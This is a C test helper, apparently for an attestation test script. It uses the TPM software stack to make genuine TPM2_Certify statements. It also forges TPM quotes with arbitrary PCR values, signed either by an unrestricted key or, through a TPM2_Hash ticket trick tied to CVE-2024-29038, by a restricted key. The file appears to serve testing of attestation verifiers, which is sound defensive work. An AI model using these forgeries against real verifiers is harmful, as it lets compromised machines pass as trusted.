/* SPDX-License-Identifier: Apache-2.0 */
/* Statements by a TPM's own commands, and forgeries that look like them; for attest.sh. tpm2_certify 5.4
 * can't be given qualifying data.
 *
 * usage: tpm2_attest TCTI certify IAK KEY NONCE-HEX OUT
 *        tpm2_attest TCTI forge KEY NONCE-HEX OUT         a quote made by hand, which an unrestricted key
 * signs tpm2_attest TCTI hash KEY NONCE-HEX OUT MAGIC    a quote with that magic, which TPM2_Hash has seen: a
 * restricted key signs it unless it is TPM_GENERATED (CVE-2024-29038)
 *
 * Keys are persistent handles without authorization values. Writes OUT.attest, OUT.signature and OUT.third;
 * status 1 and the TPM's code if the TPM refuses. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <tss2/tss2_esys.h>
#include <tss2/tss2_mu.h>
#include <tss2/tss2_tctildr.h>

static ESYS_CONTEXT *tpm;

static void check(TSS2_RC rc, const char *what) {
  if (rc == TSS2_RC_SUCCESS) return;
  (void)fprintf(stderr, "tpm2_attest: %s: 0x%x\n", what, (unsigned)rc);
  exit(1);
}

static void save(const char *out, const char *ending, const void *data, size_t len) {
  char path[1024];
  (void)snprintf(path, sizeof path, "%s.%s", out, ending);
  FILE *file = fopen(path, "wb");
  if (file == NULL || fwrite(data, 1, len, file) != len || fclose(file) != 0) exit(2);
}

static void save_signature(const char *out, const TPMT_SIGNATURE *signature) {
  uint8_t octets[sizeof *signature];
  size_t len = 0;
  check(Tss2_MU_TPMT_SIGNATURE_Marshal(signature, octets, sizeof octets, &len), "marshal");
  save(out, "signature", octets, len);
}

static ESYS_TR key_at(const char *handle) {
  ESYS_TR key = ESYS_TR_NONE;
  check(Esys_TR_FromTPMPublic(tpm, (TPM2_HANDLE)strtoul(handle, NULL, 0), ESYS_TR_NONE, ESYS_TR_NONE,
                              ESYS_TR_NONE, &key),
        handle);
  return key;
}

static TPM2B_DATA nonce_of(const char *hex) {
  TPM2B_DATA nonce = {0};
  unsigned octet = 0;
  for (; hex[0] != '\0' && sscanf(hex, "%2x", &octet) == 1; hex += 2)
    nonce.buffer[nonce.size++] = (BYTE)octet;
  return nonce;
}

static void certify(const char *iak, const char *key, const char *hex, const char *out) {
  const TPMT_SIG_SCHEME scheme = {.scheme = TPM2_ALG_NULL};
  TPM2B_DATA nonce = nonce_of(hex);
  TPM2B_ATTEST *attest = NULL;
  TPMT_SIGNATURE *signature = NULL;
  TPM2B_PUBLIC *area = NULL;
  uint8_t octets[sizeof *area];
  size_t len = 0;
  ESYS_TR object = key_at(key);
  check(Esys_Certify(tpm, object, key_at(iak), ESYS_TR_PASSWORD, ESYS_TR_PASSWORD, ESYS_TR_NONE, &nonce,
                     &scheme, &attest, &signature),
        "TPM2_Certify");
  check(Esys_ReadPublic(tpm, object, ESYS_TR_NONE, ESYS_TR_NONE, ESYS_TR_NONE, &area, NULL, NULL),
        "TPM2_ReadPublic");
  check(Tss2_MU_TPMT_PUBLIC_Marshal(&area->publicArea, octets, sizeof octets, &len), "marshal");
  save(out, "attest", attest->attestationData, attest->size);
  save_signature(out, signature);
  save(out, "third", octets, len);
  Esys_Free(area);
  Esys_Free(signature);
  Esys_Free(attest);
}

static TPM2B_DIGEST *hash(const TPM2B_MAX_BUFFER *data, TPMT_TK_HASHCHECK **ticket) {
  TPM2B_DIGEST *digest = NULL;
  check(Esys_Hash(tpm, ESYS_TR_NONE, ESYS_TR_NONE, ESYS_TR_NONE, data, TPM2_ALG_SHA256, ESYS_TR_RH_OWNER,
                  &digest, ticket),
        "TPM2_Hash");
  return digest;
}

/* With @p magic NULL it is TPM_GENERATED, and the TPM is not asked for its ticket. */
static void forge(const char *key, const char *hex, const char *out, const char *magic) {
  const TPMT_SIG_SCHEME scheme = {.scheme = TPM2_ALG_ECDSA, .details.ecdsa.hashAlg = TPM2_ALG_SHA256};
  const TPMT_TK_HASHCHECK no_ticket = {.tag = TPM2_ST_HASHCHECK, .hierarchy = TPM2_RH_NULL};
  TPM2B_MAX_BUFFER values = {.size = 6 * 32}, message = {0};
  TPMT_TK_HASHCHECK *ticket = NULL, *unused = NULL;
  TPMT_SIGNATURE *signature = NULL;
  TPMS_ATTEST attest = {.magic =
                            magic == NULL ? TPM2_GENERATED_VALUE : (TPM2_GENERATED)strtoul(magic, NULL, 0),
                        .type = TPM2_ST_ATTEST_QUOTE,
                        .qualifiedSigner.size = 34,
                        .clockInfo.safe = 1,
                        .firmwareVersion = 1};
  TPMS_QUOTE_INFO *quote = &attest.attested.quote;
  size_t len = 0;
  memset(values.buffer, 0x42, values.size); /* measured: whatever is liked */
  TPM2B_DIGEST *digest = hash(&values, &unused);
  attest.extraData = nonce_of(hex);
  quote->pcrSelect.count = 1;
  quote->pcrSelect.pcrSelections[0] =
      (TPMS_PCR_SELECTION){.hash = TPM2_ALG_SHA256, .sizeofSelect = 3, .pcrSelect = {0x9f, 0, 0}};
  quote->pcrDigest = *digest;
  check(Tss2_MU_TPMS_ATTEST_Marshal(&attest, message.buffer, sizeof message.buffer, &len), "marshal");
  message.size = (UINT16)len;
  TPM2B_DIGEST *signed_part = hash(&message, &ticket);
  check(Esys_Sign(tpm, key_at(key), ESYS_TR_PASSWORD, ESYS_TR_NONE, ESYS_TR_NONE, signed_part, &scheme,
                  magic == NULL ? &no_ticket : ticket, &signature),
        "TPM2_Sign");
  save(out, "attest", message.buffer, message.size);
  save_signature(out, signature);
  save(out, "third", values.buffer, values.size);
  Esys_Free(signature);
  Esys_Free(signed_part);
  Esys_Free(ticket);
  Esys_Free(unused);
  Esys_Free(digest);
}

int main(int argc, char **argv) {
  TSS2_TCTI_CONTEXT *tcti = NULL;
  if (argc < 6) return 2;
  check(Tss2_TctiLdr_Initialize(argv[1], &tcti), argv[1]);
  check(Esys_Initialize(&tpm, tcti, NULL), argv[1]);
  if (strcmp(argv[2], "certify") == 0 && argc == 7)
    certify(argv[3], argv[4], argv[5], argv[6]);
  else if (strcmp(argv[2], "forge") == 0)
    forge(argv[3], argv[4], argv[5], NULL);
  else if (argc == 7)
    forge(argv[3], argv[4], argv[5], argv[6]);
  else
    return 2;
  Esys_Finalize(&tpm);
  Tss2_TctiLdr_Finalize(&tcti);
  return 0;
}
